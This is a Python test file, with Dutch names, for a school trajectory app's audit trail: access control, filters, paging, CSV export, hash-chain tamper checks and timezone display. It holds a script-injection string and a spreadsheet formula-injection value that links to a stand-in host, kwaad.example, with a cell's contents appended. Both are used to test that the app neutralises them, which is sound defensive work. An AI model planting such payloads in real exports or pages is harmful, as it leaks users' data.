"""Audit review for the teamleider: filters, paging, CSV export, the chain's verification."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import select, update

from tests.e2e.overzicht_builders import advance, maak
from tests.integration.builders import breng_naar, versie
from tests.web import log_in
from trajectory.domain.clock import SCHOOL_TZ
from trajectory.store import tables as t

SCRIPT = "<script>alert(1)</script>"
GEVAARLIJK = '=HYPERLINK("http://kwaad.example/?"&A1;"klik")'


def event_ids(html):
    return [int(i) for i in re.findall(r"<tr(?: class=\"let-op\")?>\s*<td>(\d+)</td>", html)]


@pytest.fixture
def trail(sessions, clock, staff):
    """Three leerlingen; one taken two steps by override (with a formula as motivation)."""
    eerste = maak(sessions, clock, staff, "Anna Aalbers")
    tweede = maak(sessions, clock, staff, "Bram Bos")
    clock.advance(days=10)
    advance(sessions, clock, staff.teamleider, eerste, "interne_stage_afronden",
            versie(sessions, eerste), motivatie=GEVAARLIJK)  # fmt: skip
    breng_naar(sessions, clock, staff.teamleider, tweede, "snuffelstage")
    maak(sessions, clock, staff, "Cas Claassen")
    return {"eerste": eerste, "tweede": tweede}


@pytest.mark.parametrize(
    "key", ["mentor", "stagebegeleider", "ondersteuner", "andere_begeleider", "andere_mentor"]
)
def test_alleen_de_teamleider_ziet_de_audittrail_en_de_export(client, sessions, staff, key):
    log_in(client, sessions, key)

    pagina = client.get("/audit")
    export = client.get("/audit/export.csv")

    assert pagina.status_code == 403
    assert "Alleen de teamleider" in pagina.text
    assert export.status_code == 403
    assert 'href="/audit"' not in client.get("/").text  # not in the menu either


def test_de_teamleider_filtert_op_leerling_gebruiker_stap_periode_en_doorgezet(
    client, sessions, staff, trail
):
    log_in(client, sessions, "teamleider")
    with sessions() as session:
        alles = session.scalars(select(t.AuditEvent).order_by(t.AuditEvent.id.desc())).all()

    def ids(**filters):
        return event_ids(client.get("/audit", params=filters).text)

    assert ids() == [e.id for e in alles]
    assert ids(leerling=trail["eerste"]) == [
        e.id for e in alles if e.leerling_id == trail["eerste"]
    ]
    assert ids(gebruiker=staff.stagebegeleider.id) == []
    assert ids(gebruiker=staff.teamleider.id) == [e.id for e in alles]
    assert ids(trigger="interne_stage_afronden") == [
        e.id for e in alles if e.trigger == "interne_stage_afronden"
    ]
    assert ids(van="2025-03-13") == [e.id for e in alles if e.tijd >= "2025-03-13"]
    assert ids(tot="03-03-2025") == [e.id for e in alles if e.tijd < "2025-03-04"]
    assert ids(overrides="1") == [e.id for e in alles if e.override]
    assert len(ids(overrides="1")) == 2


def test_de_audittrail_bladert_per_50_nieuwste_eerst(client, sessions, clock, staff):
    for i in range(53):
        maak(sessions, clock, staff, f"Leerling {i}")
    log_in(client, sessions, "teamleider")

    eerste = event_ids(client.get("/audit").text)
    tweede = event_ids(client.get("/audit?pagina=2").text)

    assert eerste == list(range(53, 3, -1))
    assert tweede == [3, 2, 1]
    assert 'href="/audit?pagina=1"' in client.get("/audit?pagina=2").text


def test_de_export_bevat_de_gefilterde_events_met_correcte_quoting_en_zonder_formules(
    client, sessions, staff, trail
):
    log_in(client, sessions, "teamleider")

    response = client.get("/audit/export.csv", params={"overrides": "1"})

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="audittrail.csv"'
    assert response.text.startswith("\ufeff")
    rijen = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
    kop, *events = rijen
    assert kop[0] == "id"
    assert len(events) == 2
    motivaties = [rij[kop.index("motivatie")] for rij in events]
    assert motivaties[0] == "'" + GEVAARLIJK  # text, not a formula; the ; inside is quoted
    assert all(rij[kop.index("doorgezet")] == "ja" for rij in events)
    assert all(rij[kop.index("gebruiker")] == "Tineke Leider" for rij in events)
    falend = events[0][kop.index("falende guards")]
    assert "beoordeling" in falend


def test_de_keten_wordt_op_verzoek_gecontroleerd_en_de_laatste_uitkomst_blijft_staan(
    client, sessions, staff, trail
):
    csrf = log_in(client, sessions, "teamleider")
    assert "De keten is nog niet gecontroleerd." in client.get("/audit").text

    zonder_token = client.post("/audit/controle", follow_redirects=False)
    controle = client.post("/audit/controle", data={"csrf_token": csrf}, follow_redirects=False)

    assert zonder_token.status_code == 403
    assert controle.status_code == 303
    html = client.get("/audit").text
    assert "de keten was intact" in html
    assert "controle van de keten" in html  # the verification is itself in the trail

    with sessions.begin() as session:
        event_id = session.scalar(select(t.AuditPayload.event_id).limit(1))
        session.execute(
            update(t.AuditPayload)
            .where(t.AuditPayload.event_id == event_id)
            .values(payload={"naam": "Vervalst"})
        )

    assert "de keten was intact" in client.get("/audit").text  # not re-read on every visit
    client.post("/audit/controle", data={"csrf_token": csrf})
    html = client.get("/audit").text
    assert f"de keten was niet intact bij event {event_id} (keten " in html  # and which chain
    assert "payload gewijzigd" in html


def test_de_leerling_staat_er_met_naam_en_de_tijd_in_nederlandse_tijd(
    client, sessions, clock, staff, trail
):
    log_in(client, sessions, "teamleider")

    html = client.get("/audit").text

    assert ">Anna Aalbers</a>" in html
    assert "Interne stage afronden" in html
    assert clock.now().astimezone(SCHOOL_TZ).strftime("%d-%m-%Y %H:%M") in html
    assert "(UTC)" not in html


@pytest.mark.parametrize("veld", ["leerling", "gebruiker", "van", "tot", "trigger"])
def test_een_script_in_een_auditfilter_komt_als_tekst_terug(client, sessions, staff, veld):
    log_in(client, sessions, "teamleider")

    response = client.get("/audit", params={veld: SCRIPT})

    assert response.status_code == 200
    assert "<script" not in response.text
    if veld != "trigger":  # a select: an unknown step simply matches nothing
        assert "&#39;&lt;script&gt;alert(1)&lt;/script&gt;&#39; is geen" in response.text


def test_de_teamleider_zoekt_een_leerling_op_naam_zonder_naam_in_de_url(
    client, sessions, staff, trail
):
    csrf = log_in(client, sessions, "teamleider")

    html = client.post("/audit/leerling", data={"csrf_token": csrf, "naam": "aalb"}).text

    assert f'<a href="/audit?leerling={trail["eerste"]}">Anna Aalbers</a>' in html
    assert "Bram Bos</a>" not in html.split("Kies de leerling", 1)[1].split("</ul>", 1)[0]


@pytest.mark.parametrize(
    ("utc", "lokaal"),
    [
        ("2025-07-01T10:15:30+00:00", "01-07-2025 12:15:30"),  # zomertijd, UTC+2
        ("2025-01-15T23:30:05+00:00", "16-01-2025 00:30:05"),  # wintertijd, UTC+1: next day
    ],
)
def test_de_export_geeft_de_tijden_in_nederlandse_tijd(client, sessions, clock, staff, utc, lokaal):
    from datetime import datetime

    clock.set(datetime.fromisoformat(utc))
    maak(sessions, clock, staff, "Anna Aalbers")
    log_in(client, sessions, "teamleider")

    response = client.get("/audit/export.csv")

    kop, *events = csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";")
    assert kop[1] == "tijd (Europe/Amsterdam)"
    assert [rij[1] for rij in events] == [lokaal]


def test_de_pagina_toont_de_vingerafdruk_van_alle_ketens_die_met_elke_stap_verandert(
    client, sessions, clock, staff, trail
):
    """Since the chains per leerling (migration 0028) the newest event's hash vouches for one
    leerling only: the page shows the Merkle root over every chain's head, as an anchor signs."""
    from trajectory.usecases.auditanker import vingerafdruk

    log_in(client, sessions, "teamleider")
    with sessions() as session:
        voor = vingerafdruk(session)
    assert voor in client.get("/audit").text

    advance(sessions, clock, staff.teamleider, trail["tweede"], "snuffelstage_afronden",
            versie(sessions, trail["tweede"]), motivatie="Correct afgerond.")  # fmt: skip

    with sessions() as session:
        na = vingerafdruk(session)
    assert na != voor
    assert na in client.get("/audit").text
